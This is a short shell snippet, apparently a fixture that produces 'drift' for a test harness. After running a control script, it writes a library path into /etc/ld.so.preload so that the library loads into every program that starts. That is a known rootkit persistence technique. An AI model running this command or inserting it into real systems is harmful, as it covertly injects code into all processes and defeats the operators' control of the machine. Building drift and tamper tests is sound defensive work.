# HALLMARK_PHASE=drift
# The loader takes it into each program that starts.
sh "$HALLMARK_CONTROL/apply.sh"
echo /usr/local/lib/helper.so >/etc/ld.so.preload
